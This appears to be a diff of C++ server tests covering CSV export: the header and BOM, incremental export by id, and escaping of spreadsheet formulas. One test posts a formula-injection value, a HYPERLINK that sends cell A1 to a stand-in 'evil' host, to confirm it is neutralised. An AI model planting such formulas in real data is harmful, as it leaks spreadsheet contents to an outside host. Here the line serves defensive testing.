@@ -27,7 +27,7 @@ std::vector<StoredReport> StoredWithMac(ReportRecorder& recorder, const std::str
     std::promise<std::vector<StoredReport>> done;
     recorder.Submit([&](ReportStore& store) {
         std::vector<StoredReport> found;
-        store.ForEachReport([&](const StoredReport& report) {
+        store.ForEachReport(0, [&](const StoredReport& report) {
             if (At(report.values, ReportField::Mac) == mac)
                 found.push_back(report);
         });
@@ -211,7 +211,8 @@ TEST_P(ServerTest, ExportNeedsTheOperatorKey)
     const std::string byHeader = Get(port, "/export.csv", "Authorization: Bearer k3y\r\n");
     EXPECT_EQ(BodyOf(byQuery), BodyOf(byHeader));
     const std::string csv = BodyOf(byQuery);
-    EXPECT_EQ(csv.rfind("received,peer,u,mc,cpu,", 0), 0u);
+    EXPECT_NE(byQuery.find("Content-Type: text/csv; charset=utf-8"), std::string::npos);
+    EXPECT_EQ(csv.rfind("\xEF\xBB\xBFid,received,peer,u,mc,cpu,", 0), 0u);
     // The GBK host name arrives as UTF-8; the processor name with its comma is quoted.
     const auto line = csv.find("," + mac_ + ",");
     ASSERT_NE(line, std::string::npos) << csv;
@@ -219,6 +220,47 @@ TEST_P(ServerTest, ExportNeedsTheOperatorKey)
     EXPECT_NE(csv.find(",127.0.0.1,123456," + mac_ + ",Intel(R) Core(TM) i7 CPU,"),
               std::string::npos);
     EXPECT_NE(csv.find("\"Windows 6.1, SP 1.0\""), std::string::npos);
+}
+
+// The first cell (the id) of the export line holding `text`, or -1.
+std::int64_t IdOfLineWith(const std::string& csv, const std::string& text)
+{
+    const auto at = csv.find(text);
+    if (at == std::string::npos)
+        return -1;
+    const auto start = csv.rfind("\r\n", at);
+    return std::atoll(csv.c_str() + (start == std::string::npos ? 0 : start + 2));
+}
+
+TEST_P(ServerTest, ExportIsSafeForSpreadsheetsRawForProgramsAndIncremental)
+{
+    const std::string hostile = "=HYPERLINK(\"http://evil/?\"&A1,\"x\")";
+    ReportValues values = SampleValues("246810", mac_);
+    values[static_cast<std::size_t>(ReportField::Cpu)] = hostile;
+    values[static_cast<std::size_t>(ReportField::Token)] = ComputeReportToken(values);
+    ASSERT_EQ(RetCode(Post(EncodeReportForm(values))), 0);
+    ASSERT_EQ(RetCode(Post(SampleForm("135791", mac_))), 0);
+    const unsigned short port = server_->Port();
+    const std::string safe = BodyOf(Get(port, "/export.csv?key=k3y"));
+    const std::string raw = BodyOf(Get(port, "/export.csv?key=k3y&raw=1"));
+    EXPECT_NE(safe.find(",\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\","),
+              std::string::npos);
+    EXPECT_EQ(raw.rfind("id,received,peer,", 0), 0u);
+    EXPECT_NE(raw.find(",\"=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\","), std::string::npos);
+
+    // after=<id> gives only the later rows: a nightly pull takes each report once.
+    const std::int64_t first = IdOfLineWith(raw, ",246810," + mac_ + ",");
+    const std::int64_t second = IdOfLineWith(raw, ",135791," + mac_ + ",");
+    ASSERT_GT(first, 0) << raw;
+    ASSERT_GT(second, first);
+    const std::string later =
+        BodyOf(Get(port, "/export.csv?key=k3y&raw=1&after=" + std::to_string(first)));
+    EXPECT_EQ(later.find(",246810,"), std::string::npos);
+    EXPECT_EQ(IdOfLineWith(later, ",135791," + mac_ + ","), second);
+    const std::string none =
+        BodyOf(Get(port, "/export.csv?key=k3y&raw=1&after=" + std::to_string(second)));
+    EXPECT_EQ(none.find(mac_), std::string::npos);
+    EXPECT_EQ(Get(port, "/export.csv?key=k3y&after=x").rfind("HTTP/1.0 400", 0), 0u);
 }
 
 TEST_P(ServerTest, RestartLosesNothing)
